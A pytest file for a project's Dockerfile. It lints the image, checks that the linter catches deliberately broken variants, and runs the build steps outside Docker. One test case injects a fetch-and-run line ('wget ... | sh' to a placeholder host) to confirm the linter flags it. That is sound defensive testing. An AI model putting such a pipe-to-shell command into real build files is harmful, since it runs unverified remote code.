"""The image: linted, and each of its steps run outside Docker."""

import os
import re
import shlex
import subprocess
import zipfile

import pytest

from tests.clusters import dockerfile
from tests.clusters.manifests import CLUSTERS

TEXT = (CLUSTERS / "Dockerfile").read_text()


def test_no_complaints():
    assert list(dockerfile.complaints(dockerfile.parse(TEXT))) == []


@pytest.mark.parametrize(
    ("old", "new", "wanted"),
    [
        ("USER 1000", "", "the image runs as root"),
        ("USER 1000", "USER root", "the image runs as root"),
        ("USER 1000", "USER maskray", "USER must be a number"),
        ("python:${PYTHON}-slim-bookworm AS run", "python AS run", "image without a version"),
        (" AS run", "", "stage without a name"),
        ("--from=wheel", "--from=weel", "copy from an unknown stage: weel"),
        ("--no-install-recommends g++ &&", "g++ &&", "takes more than it must"),
        ("RUN apt-get update && apt-get", "RUN apt-get", "old package list"),
        (" && rm -rf /var/lib/apt/lists/*\nENV", "\nENV", "package lists left"),
        ("pip wheel --no-cache-dir", "pip wheel", "pip's cache left"),
        ("ENV MASKRAY_CUDA=0", "ENV RAY_AUTH_TOKEN=abc", "a secret in the image"),
        ("WORKDIR /source", "VOLUME /source", "unknown instruction VOLUME"),
        ("CMD [", "RUN wget -O- http://x | sh\nCMD [", "runs what it downloads"),
    ],
)
def test_the_lint_finds(old, new, wanted):
    assert old in TEXT
    assert any(wanted in line for line in dockerfile.complaints(dockerfile.parse(TEXT.replace(old, new))))


def test_only_what_the_image_needs_is_sent_to_the_builder():
    ignored = (CLUSTERS / "Dockerfile.dockerignore").read_text().split()
    kept = {line[1:] for line in ignored if line.startswith("!")}
    copied = {
        word
        for step in dockerfile.parse(TEXT)
        if step.word == "COPY" and "--from" not in step.rest
        for word in step.rest.split()[:-1]
    }
    assert "*" in ignored
    assert kept == copied
    assert all((CLUSTERS.parent / name).exists() for name in copied)


def test_both_variants_share_all_but_the_compiler():
    steps = dockerfile.parse(TEXT)
    compilers = {step.stage for step in steps if step.stage.startswith("compiler-")}
    assert compilers == {"compiler-cpu", "compiler-cuda"}
    assert [s.rest for s in steps if s.word == "ENV" and s.stage in compilers] == ["MASKRAY_CUDA=0", "MASKRAY_CUDA=1"]


def test_each_step_runs(tmp_path):
    made = dockerfile.run(dockerfile.parse(TEXT), CLUSTERS.parent, tmp_path, {"VARIANT": "cpu", "PYTHON": "3.11"})
    (wheel,) = (made.root / "wheels").glob("*.whl")
    names = zipfile.ZipFile(wheel).namelist()
    assert {"_maskray_ops.abi3.so", "pipelines/cli.py", "model/detector.py"} <= set(names)
    assert not any(name.startswith(("tests/", "csrc/", "benchmarks/")) for name in names)
    python = made.root / "opt" / "maskray" / "bin" / "python"
    code = "import importlib.util as u; print(u.find_spec('_maskray_ops').origin, u.find_spec('pipelines').origin)"
    where = subprocess.run([python, "-c", code], cwd=tmp_path, env={**os.environ, "PYTHONPATH": ""},
                           capture_output=True, text=True, check=True).stdout  # fmt: skip
    assert [path.startswith(str(made.root / "opt")) for path in where.split()] == [True, True]
    assert any(line.startswith("useradd --create-home --uid 1000 ") for line in made.asked)
    packages = {word for line in made.asked if " install " in line for word in shlex.split(line)[2:]}
    assert {"g++", "bash", "wget", "rsync"} <= packages
    assert "python3-dev" not in packages
    assert re.search(r"^apt-get update$", "\n".join(made.asked), re.MULTILINE)
